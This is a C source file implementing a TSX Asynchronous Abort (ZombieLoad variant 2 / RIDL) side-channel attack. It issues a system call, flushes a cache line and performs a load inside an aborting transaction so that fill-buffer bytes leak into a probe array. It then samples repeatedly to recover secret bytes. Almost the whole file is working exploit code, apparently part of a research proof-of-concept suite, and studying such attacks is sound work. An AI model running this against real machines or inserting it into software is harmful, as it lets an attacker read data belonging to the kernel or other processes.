/*
 * TSX asynchronous abort (Schwarz et al., "ZombieLoad", 2019, variant 2; van Schaik et al., "RIDL",
 * addendum): loads of a transaction that aborts asynchronously receive bytes of the fill buffers, as
 * faulting ones do elsewhere. The line that is loaded is the process's own and permitted; that it
 * has been flushed keeps the load waiting.
 */
#include "attack.h"

#include <cpuid.h>
#include <sys/mman.h>

#include "channel.h"
#include "evict.h"
#include "secret.h"

enum { LINE = 64, RTM = 1 << 11 };

static const uint8_t *probe;
static uint8_t own[LINE] __attribute__((aligned(64)));

static int has_transactions(void)
{
	unsigned int eax, ebx, ecx, edx;

	return __get_cpuid_count(7, 0, &eax, &ebx, &ecx, &edx) && ebx & RTM;
}

/* A system call, then a transaction that aborts. */
static void call_and_send_aborting(long number, long first, const void *second, long third, const void *address)
{
	register const void *address_register __asm__("r9") = address;
	register const uint8_t *probe_register __asm__("r8") = probe;

	__asm__ volatile(
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		"clflush (%[address])\n\t"
		"xbegin 9f\n\t"
		"movzbl (%[address]), %%eax\n\t"
		SEND_BYTE
		"xend\n\t"
		"9:\n\t"
		:
		: [number] "r"(number), "D"(first), "S"(second), "d"(third), [address] "r"(address_register),
		  [probe] "r"(probe_register)
		: "rax", "rcx", "r11", "memory", "cc");
}

static int sample(int index)
{
	uint64_t place = options.address + index;
	uint8_t answer;

	if (!has_transactions())
		return NOTHING;
	evict(place, first_level_pages);
	flush_probe(probe);
	if (options.call) {
		call_and_send_aborting(options.call, 0, NULL, 0, own + place % LINE);
	} else {
		send_guess(index);
		call_and_send_aborting(SYS_read, answers_of_service, &answer, 1, own + place % LINE);
	}
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	open_secret();
	calibrate();
	prepare_eviction();
	probe = own_probe();
	recover(sample, (struct patience){ .samples = 100, .lead = 4 }, 1);
	return 0;
}
